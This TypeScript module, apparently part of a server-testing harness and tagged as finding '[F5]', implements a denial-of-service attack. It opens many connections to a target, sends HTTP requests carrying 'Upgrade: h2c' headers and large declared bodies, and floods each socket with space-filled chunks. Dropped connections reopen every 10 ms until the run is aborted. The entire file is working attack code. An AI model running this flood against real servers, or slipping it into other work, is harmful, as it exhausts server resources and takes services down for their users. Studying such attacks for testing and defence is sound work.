import type { Socket } from "node:net";
import { headersFor, openSocket, type Target, untilAborted } from "./target.ts";

const CHUNK = Buffer.alloc(256 * 1024, 0x20);

export interface UpgradeBodies {
  readonly connections: number;
  /** The length that the request declares. */
  readonly length: number;
  /** A request line that is answered late or never, such as "GET /api/v2/scheduler/task/ID?wait=60". */
  readonly request: string;
}

/** [F5] Sends bodies under `Upgrade` as fast as the server reads them. Returns how many bytes the server took. */
export async function sendUpgradeBodies(
  target: Target,
  { connections, length, request }: UpgradeBodies,
  signal: AbortSignal,
): Promise<number> {
  const head =
    `${request} HTTP/1.1\r\n${headersFor(target)}connection: upgrade\r\nupgrade: h2c\r\n` +
    `content-type: application/json\r\ncontent-length: ${length}\r\n\r\n`;
  const open = new Set<Socket>();
  let taken = 0;
  const start = (): void => {
    const socket = openSocket(target);
    open.add(socket);
    socket.write(head);
    const pump = (): void => {
      while (!socket.destroyed && socket.write(CHUNK)) {}
    };
    socket.on("connect", pump);
    socket.on("drain", pump);
    socket.resume();
    socket.on("close", () => {
      open.delete(socket);
      taken += socket.bytesWritten - socket.writableLength;
      if (!signal.aborted) setTimeout(start, 10);
    });
  };
  for (let n = 0; n < connections; n++) start();
  await untilAborted(signal);
  for (const socket of open) {
    taken += socket.bytesWritten - socket.writableLength;
    socket.destroy();
  }
  return taken;
}
